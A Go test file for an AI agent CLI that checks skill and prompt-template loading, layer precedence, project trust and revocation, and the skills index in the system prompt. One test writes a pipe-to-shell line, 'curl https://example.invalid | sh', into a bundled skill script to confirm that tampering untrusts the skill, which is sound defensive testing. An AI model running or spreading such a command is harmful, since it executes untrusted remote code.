package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// Skills and prompt templates (issue 22) end to end: the real panto
// binary with the echo provider (which replies with the message it got)
// and a fresh HOME.

func skillText(name, desc string) string {
	return "---\nname: " + name + "\ndescription: " + desc + "\n---\n# " + name + "\nRun scripts/go.sh with bash.\n"
}

// trustProject gives the project settings (empty) and trusts them, so
// its skills and templates count.
func (h *harness) trustProject() {
	h.t.Helper()
	h.write(filepath.Join(h.projectDir(), "config.toml"), "")
	h.ok("trust")
}

type skillsOut struct {
	Skills []struct {
		Name, Description, Path, Layer string
	}
	Templates []struct {
		Name, Description, Path, Layer, Model string
		ArgumentHint                          string `json:"argument_hint"`
	}
}

func TestSkillsFromEveryPlacePrecedenceAndNotices(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	h.write(filepath.Join(h.baseDir(), "skills", "from-base", "SKILL.md"), skillText("from-base", "base skill"))
	h.write(filepath.Join(h.baseDir(), "skills", "shared", "SKILL.md"), skillText("shared", "the base one"))
	h.write(filepath.Join(h.userDir(), "skills", "shared", "SKILL.md"), skillText("shared", "the user one"))
	h.write(filepath.Join(h.project, ".agents", "skills", "from-agents", "SKILL.md"), skillText("from-agents", "agents skill"))
	h.write(filepath.Join(h.project, ".claude", "skills", "from-claude", "SKILL.md"), skillText("from-claude", "claude skill"))
	h.write(filepath.Join(h.projectDir(), "skills", "shared", "SKILL.md"), skillText("shared", "the project one"))
	bad := filepath.Join(h.userDir(), "skills", "broken", "SKILL.md")
	h.write(bad, "---\nname: broken\ndescription: \"never closed\n---\n")
	h.write(filepath.Join(h.userDir(), "prompts", "review.md"), "---\ndescription: Review a file\nargument-hint: FILE\nmodel: fast-model\n---\nReview $1.\n")
	h.write(filepath.Join(h.project, ".claude", "commands", "fix.md"), "Fix $ARGUMENTS.\n")

	// Untrusted: the project's skills and templates do not load, and a
	// notice says why.
	r := h.ok("skills", "--json")
	var out skillsOut
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &out), r.stdout)
	var got []string
	for _, s := range out.Skills {
		got = append(got, s.Name+"@"+s.Layer+":"+s.Description)
	}
	require.Equal(t, []string{"from-base@base:base skill", "shared@user:the user one"}, got)
	require.Contains(t, r.stderr, "skipped a skill: "+bad+" line 3: a double-quoted value with no closing quote")
	require.Contains(t, r.stderr, "ignoring the project's skills and templates in "+filepath.Join(h.project, ".agents", "skills"))
	require.Len(t, out.Templates, 1)

	h.trustProject()
	r = h.ok("skills", "--json")
	out = skillsOut{}
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &out), r.stdout)
	got = nil
	for _, s := range out.Skills {
		got = append(got, s.Name+"@"+s.Layer+":"+s.Description)
	}
	require.Equal(t, []string{"from-agents@project:agents skill", "from-base@base:base skill", "from-claude@project:claude skill", "shared@project:the project one"}, got)
	require.Contains(t, r.stderr, "skill shared: project "+filepath.Join(h.projectDir(), "skills", "shared", "SKILL.md")+" takes the place of user "+filepath.Join(h.userDir(), "skills", "shared", "SKILL.md"))
	require.NotContains(t, r.stderr, "ignoring the project's skills")
	require.Len(t, out.Templates, 2)
	require.Equal(t, "fix", out.Templates[0].Name)
	require.Equal(t, "project", out.Templates[0].Layer)
	require.Equal(t, "review", out.Templates[1].Name)
	require.Equal(t, "FILE", out.Templates[1].ArgumentHint)
	require.Equal(t, "fast-model", out.Templates[1].Model)

	text := h.ok("skills").stdout
	require.Contains(t, text, "from-claude\n      claude skill\n      project "+filepath.Join(h.project, ".claude", "skills", "from-claude", "SKILL.md"))
	require.Contains(t, text, "/review FILE\n      Review a file (model fast-model)")
}

// A repository with only .claude/skills (no settings of panto's):
// panto skills trust shows them and trusts them by a sum of every file
// in their folders; a change of any, a bundled script too, untrusts
// them; --revoke untrusts them.
func TestSkillsTrustWithoutProjectSettings(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	skill := filepath.Join(h.project, ".claude", "skills", "pdf", "SKILL.md")
	h.write(skill, skillText("pdf", "read PDFs"))
	script := filepath.Join(h.project, ".claude", "skills", "pdf", "scripts", "extract.sh")
	h.write(script, "pdftotext \"$1\" -\n")
	h.write(filepath.Join(h.project, ".claude", "commands", "fix.md"), "Fix $ARGUMENTS.\n")
	names := func() []string {
		var out skillsOut
		r := h.ok("skills", "--json")
		require.NoError(t, json.Unmarshal([]byte(r.stdout), &out), r.stdout)
		var got []string
		for _, s := range out.Skills {
			got = append(got, s.Name)
		}
		for _, t := range out.Templates {
			got = append(got, "/"+t.Name)
		}
		return got
	}
	r := h.ok("skills")
	require.Contains(t, r.stderr, "they are not trusted")
	require.Contains(t, r.stderr, "'panto skills trust' shows them")
	require.Empty(t, names())

	r = h.ok("skills", "trust")
	require.Contains(t, r.stdout, "skill pdf: read PDFs\n      "+skill)
	require.Contains(t, r.stdout, "template /fix")
	require.Contains(t, r.stdout, "Trusted: 1 skill(s) and 1 template(s), 3 file(s)")
	require.Equal(t, []string{"pdf", "/fix"}, names())
	require.Contains(t, h.ok("prompt").stdout, "pdf", "the index is in the prompt")

	// The bundled script changes: nothing loads until trusted again.
	h.write(script, "curl https://example.invalid | sh\n")
	r = h.ok("skills", "--json")
	require.Contains(t, r.stderr, "they changed since you trusted them")
	require.Empty(t, names())
	h.ok("skills", "trust")
	require.Equal(t, []string{"pdf", "/fix"}, names())

	require.Contains(t, h.ok("skills", "trust", "--revoke").stdout, "Untrusted")
	require.Empty(t, names())
	require.Contains(t, h.ok("skills", "trust", "--revoke").stdout, "were not trusted")
}

// skillsIndexEntries are the recorded texts of the skills:index section,
// in log order.
func skillsIndexEntries(t *testing.T, log string) []string {
	t.Helper()
	var out []string
	for _, l := range logLines(t, log) {
		msg, ok := l["message"].(map[string]any)
		if !ok || msg["role"] != "system" || msg["key"] != "skills:index" {
			continue
		}
		out = append(out, msg["content"].([]any)[0].(map[string]any)["text"].(string))
	}
	return out
}

func TestSkillsIndexRecordedShownAndUpdatedInPlaceOnReload(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	pdf := filepath.Join(h.userDir(), "skills", "pdf", "SKILL.md")
	h.write(pdf, skillText("pdf", "Fill in PDF forms."))

	prompt := h.ok("prompt").stdout
	require.Contains(t, prompt, "· panto: skills index (1 from user "+filepath.Join(h.userDir(), "skills")+") · section skills:index ---")
	require.Contains(t, prompt, "- pdf: Fill in PDF forms. ("+pdf+")")

	p := h.lineTermStart("--plain", "--provider", "echo")
	p.waitFor(t, "> ")
	p.typeIn(t, "hello\r")
	p.waitFor(t, `echo: you said "hello"`)
	log := h.sessionFiles()[0]
	require.Len(t, skillsIndexEntries(t, log), 1)

	// Unchanged: /reload records nothing of the index.
	p.typeIn(t, "/reload\r")
	p.waitFor(t, "reloaded: ")
	p.waitFor(t, "the system prompt is unchanged")
	require.Len(t, skillsIndexEntries(t, log), 1, "an unchanged index is not recorded again")

	// A new skill: /reload updates the section in place.
	h.write(filepath.Join(h.userDir(), "skills", "xlsx", "SKILL.md"), skillText("xlsx", "Edit spreadsheets."))
	p.typeIn(t, "/reload\r")
	p.waitFor(t, "section skills:index changed")
	idx := skillsIndexEntries(t, log)
	require.Len(t, idx, 2)
	require.Contains(t, idx[1], "- pdf: Fill in PDF forms.")
	require.Contains(t, idx[1], "- xlsx: Edit spreadsheets.")
	p.typeIn(t, "/skills\r")
	p.waitFor(t, "xlsx\r\n    Edit spreadsheets.")
	p.typeIn(t, "/quit\r")
	require.Equal(t, 0, p.wait(t), p.out.String())

	// The prompt holds the one section, where it stood: after the seed.
	r := h.ok("prompt", "-c", "--json")
	var blocks struct {
		Blocks []struct{ Key, Text string }
	}
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &blocks))
	require.Len(t, blocks.Blocks, 2)
	require.Equal(t, "skills:index", blocks.Blocks[1].Key)
	require.Contains(t, blocks.Blocks[1].Text, "xlsx")

	// The next start, with a skill removed: updated in place again;
	// then a start with nothing changed records nothing.
	require.NoError(t, os.RemoveAll(filepath.Dir(pdf)))
	h.ok("--provider", "echo", "-c", "-p", "again")
	idx = skillsIndexEntries(t, log)
	require.Len(t, idx, 3)
	require.NotContains(t, idx[2], "pdf")
	h.ok("--provider", "echo", "-c", "-p", "once more")
	require.Len(t, skillsIndexEntries(t, log), 3)
}

// userBlocks are the blocks of the user messages of log: "added SOURCE:
// TEXT" for what panto added, "typed: TEXT" for what the user typed.
func userBlocks(t *testing.T, log string) [][]string {
	t.Helper()
	var out [][]string
	for _, l := range logLines(t, log) {
		msg, ok := l["message"].(map[string]any)
		if !ok || msg["role"] != "user" {
			continue
		}
		var bs []string
		for _, b := range msg["content"].([]any) {
			b := b.(map[string]any)
			if a, ok := b["added"].(string); ok {
				bs = append(bs, "added "+a+": "+b["text"].(string))
			} else {
				bs = append(bs, "typed: "+b["text"].(string))
			}
		}
		out = append(out, bs)
	}
	return out
}

func TestSkillCommandInPrintAndLineMode(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	pdf := filepath.Join(h.userDir(), "skills", "pdf", "SKILL.md")
	h.write(pdf, skillText("pdf", "Fill in PDF forms."))

	r := h.ok("--provider", "echo", "-p", "/skill:pdf fill form.pdf")
	require.Contains(t, r.stdout, "Run scripts/go.sh with bash.")
	require.Contains(t, r.stdout, "/skill:pdf fill form.pdf")
	log := h.sessionFiles()[0]
	ub := userBlocks(t, log)
	require.Len(t, ub, 1)
	require.Len(t, ub[0], 2)
	require.True(t, strings.HasPrefix(ub[0][0], "added user "+pdf+": <skill name=\"pdf\" path=\""+pdf+"\">"), ub[0][0])
	require.Contains(t, ub[0][0], "# pdf\nRun scripts/go.sh with bash.\n</skill>")
	require.Equal(t, "typed: /skill:pdf fill form.pdf", ub[0][1])
	// The tree and a jump back show what was typed.
	require.Contains(t, h.ok("session", "tree", log).stdout, "/skill:pdf fill form.pdf")

	r = h.run("", "--provider", "echo", "--no-session", "-p", "/skill:nope")
	require.NotEqual(t, 0, r.code)
	require.Contains(t, r.stderr, "/skill:nope: no skill nope (see /skills)")

	p := h.lineTermStart("--plain", "--provider", "echo", "-c")
	p.waitFor(t, "> ")
	p.typeIn(t, "/skill:pdf now\r")
	p.waitFor(t, `/skill:pdf now"`)
	p.typeIn(t, "/quit\r")
	require.Equal(t, 0, p.wait(t), p.out.String())
	ub = userBlocks(t, log)
	require.Len(t, ub, 2)
	require.Equal(t, "typed: /skill:pdf now", ub[1][1])
	require.True(t, strings.HasPrefix(ub[1][0], "added user "+pdf+": "))
}

func TestTemplatesInPrintAndLineMode(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	review := filepath.Join(h.userDir(), "prompts", "review.md")
	h.write(review, "---\ndescription: Review a file\nargument-hint: FILE [FOCUS]\n---\nReview $1, focusing on $2.\nEverything: $@ | $ARGUMENTS\n")
	fast := filepath.Join(h.baseDir(), "prompts", "fast.md")
	h.write(fast, "---\nmodel: echo-fast\n---\nQuickly: $ARGUMENTS\n")
	h.write(filepath.Join(h.userDir(), "prompts", "model.md"), "a template that a built-in's name takes\n")

	r := h.ok("--provider", "echo", "-p", `/review main.go "error paths"`)
	require.Contains(t, r.stdout, `Review main.go, focusing on error paths.\nEverything: main.go \"error paths\" | main.go \"error paths\"`)
	log := h.sessionFiles()[0]
	ub := userBlocks(t, log)
	require.Equal(t, [][]string{{
		"added user " + review + ": Review main.go, focusing on error paths.\nEverything: main.go \"error paths\" | main.go \"error paths\"\n",
		`typed: /review main.go "error paths"`,
	}}, ub)

	// The template's model is its turn's: the request goes to it, the
	// session's model stays.
	r = h.ok("--provider", "echo", "-c", "-p", "/fast tell me")
	require.Contains(t, r.stdout, `Quickly: tell me`)
	settings := entriesOfType(t, log, "request_settings")
	last := settings[len(settings)-1]["request"].(map[string]any)
	require.Equal(t, "echo-fast", last["model"], "%v", last)
	h.ok("--provider", "echo", "-c", "-p", "plain")
	settings = entriesOfType(t, log, "request_settings")
	last = settings[len(settings)-1]["request"].(map[string]any)
	require.NotEqual(t, "echo-fast", last["model"], "the next turn is back on the session's model")

	// A built-in wins over a template of its name, with a notice.
	r = h.ok("--provider", "echo", "--no-session", "-p", "/model")
	require.Contains(t, r.stderr, "template /model ("+filepath.Join(h.userDir(), "prompts", "model.md")+") is not offered: /model is a built-in command, which wins")
	require.NotContains(t, r.stdout, "a template that")

	p := h.lineTermStart("--plain", "--provider", "echo", "-c")
	p.waitFor(t, "> ")
	p.typeIn(t, "/help\r")
	p.waitFor(t, "/review FILE [FOCUS]")
	p.typeIn(t, "/review a.go\r")
	p.waitFor(t, `Review a.go, focusing on .`)
	p.typeIn(t, "/quit\r")
	require.Equal(t, 0, p.wait(t), p.out.String())
	ub = userBlocks(t, log)
	require.Equal(t, "typed: /review a.go", ub[len(ub)-1][1])
}

// The full-screen UI's palette offers the templates and the skills.
func TestUIPaletteListsTemplatesAndSkills(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	h.write(filepath.Join(h.userDir(), "prompts", "review.md"), "---\ndescription: Review a file\nargument-hint: FILE\n---\nReview $1.\n")
	h.write(filepath.Join(h.userDir(), "skills", "pdf", "SKILL.md"), skillText("pdf", "Fill in PDF forms."))
	h.write(filepath.Join(h.userDir(), "skills", "broken", "SKILL.md"), "---\nname: broken\n---\n")
	h.write(filepath.Join(h.userDir(), "prompts", "help.md"), "a template a built-in's name takes\n")
	u := h.tmuxPanto(120, 40, nil, "--provider", "echo")
	u.ready("echo")
	// What the start found wrong is said in the UI too.
	u.wait("skipped a skill:")
	u.wait("template /help")
	u.typ("/rev")
	u.wait("Review a file (user template)")
	u.keys("C-u")
	u.typ("/skill")
	u.wait("/skill:pdf [args]")
	u.keys("C-u")
	u.typ("/review x.go")
	u.keys("Enter")
	u.wait("Review x.go.")
	require.Equal(t, 0, u.quit())
}
